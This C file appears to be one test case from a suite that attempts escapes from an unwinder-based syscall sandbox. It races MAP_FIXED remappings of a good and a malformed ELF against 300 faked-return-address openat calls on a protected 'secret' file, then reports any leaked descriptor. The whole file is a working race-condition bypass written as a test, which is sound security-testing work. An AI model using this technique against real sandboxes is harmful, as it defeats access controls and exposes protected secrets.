/* U11: a thread keeps replacing what is mapped at one address (MAP_FIXED),
 * a valid ELF then the U06 one, while the main thread makes 300 denied
 * calls "from" that mapping (each from another address in it, so that no
 * cache of an unwinder's answers it): the file an unwinder opens may not
 * be the one the maps it read named. */
#include "escape.h"
#include "unwind.h"

static unsigned long at;
static atomic_int stop;

static void *flip(void *arg)
{
	int fd[2] = { open("good.so", O_RDONLY | O_CLOEXEC),
		      open("bad.so", O_RDONLY | O_CLOEXEC) };

	(void)arg;
	for (unsigned i = 0; !atomic_load(&stop); i++) {
		if (mmap((void *)at, ESC_SIZE, PROT_READ | PROT_EXEC,
			 MAP_PRIVATE | MAP_FIXED, fd[i & 1], 0) == MAP_FAILED)
			break;
		spin(2000);
	}
	return NULL;
}

int attack(int argc, char **argv)
{
	pthread_t t;
	int denied = 0;

	at = elf_mapped("good.so", ESC_GOOD);
	if (!at || !elf_mapped("bad.so", ESC_PHOFF))
		return result(-1), 1;
	pthread_create(&t, NULL, flip, NULL);
	for (int i = 0; i < 300; i++) {
		long r = esc_fake_ret_syscall(SYS_openat, AT_FDCWD,
					      (long)(uintptr_t)ARG("secret"),
					      O_RDONLY,
					      at + ESC_CODE + 1 + 3 * i);
		if (r == -EACCES)
			denied++;
		else if (r >= 0)
			leaked((int)r, ARG("token"));
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	say("DENIED %d", denied);
	deny_from(ARG("secret"), at + ESC_RET);
	say("AFTER");
	return 0;
}
